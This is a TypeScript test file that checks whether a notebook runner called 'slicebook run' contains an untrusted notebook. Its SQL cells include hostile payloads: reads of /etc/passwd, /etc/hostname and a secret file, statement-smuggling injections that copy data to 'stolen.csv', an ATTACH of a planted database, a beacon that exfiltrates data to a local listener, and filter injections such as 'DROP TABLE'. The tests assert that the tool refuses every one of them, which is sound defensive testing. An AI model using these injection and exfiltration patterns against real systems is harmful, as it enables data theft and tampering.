import { existsSync, readFileSync } from 'node:fs';
import { mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { slicebookFromSources as slicebook } from '../helpers/slicebook-command';

/**
 * A notebook from an untrusted pull request, run by `slicebook run` (a separate Node process) as CI
 * would: it reads no file but its --data, writes nothing outside --out, and reaches no host.
 */
let dir: string;
let listener: Server;
let port: number;
const connections: string[] = [];
const SECRET = 'the-secret-only-on-this-machine';

const sqlCell = (name: string, sql: string) => ({
  id: name,
  name,
  kind: 'sql',
  collapsed: false,
  sql,
});

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'slicebook-hostile-'));
  await writeFile(join(dir, 'secret.txt'), `${SECRET}\n`);
  await writeFile(join(dir, 'people.csv'), 'name,score\nAda Lovelace,1\nAlan Turing,0\n');
  listener = createServer((socket) => {
    connections.push(String(socket.remoteAddress));
    socket.destroy();
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  port = (listener.address() as { port: number }).port;
});
afterAll(async () => {
  listener.close();
  await rm(dir, { recursive: true, force: true });
});

function hostileNotebook(filter = '') {
  return {
    format: 'slicebook',
    version: 1,
    title: 'Looks harmless',
    filter,
    cells: [
      sqlCell('hostname', "SELECT * FROM read_text('/etc/hostname')"),
      sqlCell('passwd', "SELECT * FROM read_csv('/etc/passwd', delim = ':', header = false)"),
      sqlCell('secret', `SELECT * FROM read_text('${join(dir, 'secret.txt')}')`),
      sqlCell('given_by_path', `SELECT * FROM read_text('${join(dir, 'people.csv')}')`),
      sqlCell(
        'escape',
        `SELECT 1 AS x); COPY (SELECT name FROM people) TO '${join(dir, 'stolen.csv')}'; SELECT (1`,
      ),
      sqlCell(
        'set_leak',
        "SELECT 1 AS x); SET VARIABLE leak = (SELECT string_agg(name, '|') FROM people); SELECT (1",
      ),
      sqlCell('attach', `ATTACH '${join(dir, 'planted.db')}' AS planted`),
      sqlCell(
        'beacon',
        `SELECT * FROM read_csv('http://127.0.0.1:${port}/leak?d=' || coalesce(getvariable('leak'), 'none'))`,
      ),
      sqlCell('counted', 'SELECT count(*) AS n FROM people'),
    ],
    data: [{ name: 'people.csv', size: 45, rows: 2, sha256: null }],
    datasets: {},
  };
}

async function filesUnder(folder: string): Promise<string[]> {
  return (await readdir(folder, { recursive: true })).map(String).sort();
}

describe('slicebook run on a hostile notebook', () => {
  it('reads only its --data, writes only into --out, reaches no host', async () => {
    const notebook = join(dir, 'hostile.slicebook.json');
    await writeFile(notebook, JSON.stringify(hostileNotebook()));
    const out = join(dir, 'out');
    const before = await filesUnder(dir);
    const run = await slicebook('run', notebook, '--data', join(dir, 'people.csv'), '--out', out);
    expect(run.code, run.stderr).toBe(3);

    const summary = JSON.parse(await readFile(join(out, 'summary.json'), 'utf8'));
    const status = Object.fromEntries(
      summary.cells.map((c: { name: string; status: string; message: string | null }) => [
        c.name,
        c.message ?? c.status,
      ]),
    );
    const noAccess = (path: string) =>
      `Cannot access file "${path}": a notebook reads only the files you loaded, by their table names, and nothing from the network or your disk.`;
    expect(status).toEqual({
      hostname: noAccess('/etc/hostname'),
      passwd: noAccess('/etc/passwd'),
      secret: noAccess(join(dir, 'secret.txt')),
      given_by_path: noAccess(join(dir, 'people.csv')),
      escape:
        'A SQL cell runs one query (SELECT or WITH); DuckDB cannot read it: syntax error at or near ")" (line 1 of the cell).',
      attach:
        'A SQL cell runs one query (SELECT or WITH); this cell has an ATTACH statement, which a SQL cell does not run.',
      set_leak:
        'A SQL cell runs one query (SELECT or WITH); DuckDB cannot read it: syntax error at or near ")" (line 1 of the cell).',
      beacon: noAccess(`http://127.0.0.1:${port}/leak?d=none`),
      counted: 'table',
    });
    expect(readFileSync(join(out, 'counted.csv'), 'utf8')).toBe('n\n2\n');

    // Nothing was written beside --out, and nothing of the machine reached the results.
    expect(await filesUnder(dir)).toEqual(
      [...before, 'out', ...(await readdir(out)).map((f) => join('out', f))].sort(),
    );
    expect(existsSync(join(dir, 'stolen.csv'))).toBe(false);
    expect(existsSync(join(dir, 'planted.db'))).toBe(false);
    const hostname = readFileSync('/etc/hostname', 'utf8').trim();
    for (const file of await readdir(out)) {
      const text = await readFile(join(out, file), 'utf8');
      expect(text).not.toContain(SECRET);
      expect(text).not.toContain('root:x:0:0');
      if (hostname.length >= 6) expect(text).not.toContain(`"${hostname}"`);
    }
    expect(connections).toEqual([]);
  }, 120_000);

  it.each([
    ['true) OR (true', 'DuckDB cannot read this one as one: syntax error at or near ")".'],
    [
      "model = 'a' -- only a",
      'this one ends in a -- comment, which would hide what follows it: remove it.',
    ],
    ['true; DROP TABLE people', 'this one holds more than one statement.'],
  ])(
    'refuses --filter %j with the reason, before loading anything',
    async (filter, why) => {
      const notebook = join(dir, 'plain.slicebook.json');
      await writeFile(notebook, JSON.stringify({ ...hostileNotebook(), cells: [] }));
      const run = await slicebook(
        'run',
        notebook,
        '--data',
        join(dir, 'people.csv'),
        '--out',
        join(dir, 'filtered'),
        '--filter',
        filter,
      );
      expect(run.code).toBe(2);
      expect(run.stderr).toBe(
        `slicebook: --filter: The filter must be one condition on the data's columns (e.g. region = 'north' AND age >= 30); ${why}\n`,
      );
      expect(existsSync(join(dir, 'filtered'))).toBe(false);
    },
    60_000,
  );
});
